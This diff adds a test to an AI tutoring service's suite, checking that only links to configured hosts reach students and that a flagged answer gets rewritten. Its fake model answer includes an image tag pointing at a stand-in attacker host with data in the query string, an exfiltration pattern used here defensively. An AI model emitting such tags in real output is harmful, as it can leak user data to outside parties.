@@ -151,6 +151,21 @@ async def test_avoided_words_are_masked(connect, fake_llm):
     assert "polyfit" not in text_of(frames).lower()
 
 
+@pytest.mark.parametrize("tutor_config", [{"tutor_link_hosts": ["course.example.org"]}])
+async def test_only_links_to_the_configured_hosts_reach_the_student(connect, fake_llm):
+    answer = (
+        "Read [the notes](https://course.example.org/notes) and [numpy](https://numpy.org/doc/)."
+        ' <img src="https://evil.example/x.png?c=result" alt="plot">'
+    )
+    fake_llm.script({"text": answer, "chunk_size": 3}, {"text": "Read the course notes."})
+    ws = await connect()
+    frames = await ask(ws, cell_code=CELL, error_output=NAME_ERROR)
+    streamed = "".join(f["text"] for f in frames if f["type"] == "delta")
+    assert streamed == "Read [the notes](https://course.example.org/notes) and numpy. plot"
+    assert frames[-1]["guarded"] is True  # so the model was asked to rewrite it
+    assert text_of(frames) == "Read the course notes."
+
+
 @pytest.mark.parametrize("tutor_config", [{"requests_per_minute": 2}])
 async def test_too_many_questions_a_minute_get_a_clear_message(connect, fake_llm):
     ws = await connect()
